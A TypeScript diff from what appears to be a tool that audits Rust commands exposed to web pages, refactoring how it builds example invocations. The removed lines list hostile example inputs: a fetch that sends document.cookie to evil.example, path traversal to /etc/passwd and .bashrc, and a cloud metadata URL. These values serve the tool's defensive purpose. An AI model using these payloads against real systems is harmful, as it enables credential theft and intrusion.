@@ -1,27 +1,14 @@
-import type { CommandDoor, CommandFlow, CommandPower, ExposedCommand } from "../../domain/rust-command.ts";
+import type { JsonObject } from "../../domain/input-shape.ts";
+import type { CommandFlow, CommandGrant, ExposedCommand } from "../../domain/rust-command.ts";
 import { visible } from "../../domain/sentence.ts";
 import type { InvokeWitness } from "../../domain/witness.ts";
+import { exampleOf } from "./examples.ts";
+import { filled } from "./payload.ts";
 
-/** What a page would hand over to show what it can do. */
-const EXAMPLES: Readonly<Record<CommandPower, string>> = {
-  run: "/usr/bin/env",
-  update: "https://evil.example/latest.json",
-  script: "fetch('https://evil.example/' + document.cookie)",
-  "change-files": "../../../../home/user/.bashrc",
-  "read-files": "../../../../etc/passwd",
-  sql: "SELECT * FROM sqlite_master",
-  network: "http://169.254.169.254/latest/meta-data/",
-  window: "https://evil.example/",
-};
-
-/** A call that hands an input what the command then uses. */
-export function commandWitness(
-  door: CommandDoor,
-  command: string,
-  { input, power }: CommandFlow,
-): InvokeWitness {
-  const example = EXAMPLES[power];
-  const witness = witnessOf(command, payloadOf(input, example));
+/** A call that hands an input what the command then uses, and all else that the command wants. */
+export function commandWitness({ door, command, inputs }: CommandGrant, flow: CommandFlow): InvokeWitness {
+  const example = exampleOf(flow);
+  const witness = witnessOf(command, payloadOf(inputs, flow.input, example));
   const name = command.slice(door.length + 1);
   const handed = visible(JSON.stringify(example));
   switch (door) {
@@ -41,7 +28,7 @@ export function exposedWitness({ command, inputs }: ExposedCommand): InvokeWitne
   return witnessOf(command, Object.fromEntries(inputs.map(({ name }) => [name, "…"])));
 }
 
-function witnessOf(command: string, payload: Readonly<Record<string, unknown>>): InvokeWitness {
+function witnessOf(command: string, payload: JsonObject): InvokeWitness {
   const shown = Object.keys(payload).length === 0 ? "" : `, ${visible(JSON.stringify(payload))}`;
   return {
     kind: "invoke",
@@ -55,10 +42,11 @@ function witnessOf(command: string, payload: Readonly<Record<string, unknown>>):
   };
 }
 
-/** `options.paths[]` → `{ options: { paths: ["…"] } }`. */
-function payloadOf(input: string, example: string): Record<string, unknown> {
-  const [name = "", ...fields] = input.split(".");
-  const inner = fields.length === 0 ? example : payloadOf(fields.join("."), example);
-  const key = name.replace(/(?:\[\])+$/, "");
-  return { [key]: name === key ? inner : [inner] };
+/** What may lack is left out, unless it is the input that is shown. */
+function payloadOf(inputs: CommandGrant["inputs"], input: string, example: string): JsonObject {
+  const given = inputs.flatMap(({ name, shape }): (readonly [string, JsonObject[string]])[] => {
+    const value = filled(shape, input, example);
+    return shape.kind === "optional" && value === null ? [] : [[name, value]];
+  });
+  return given.length === 0 ? { [input]: example } : Object.fromEntries(given);
 }
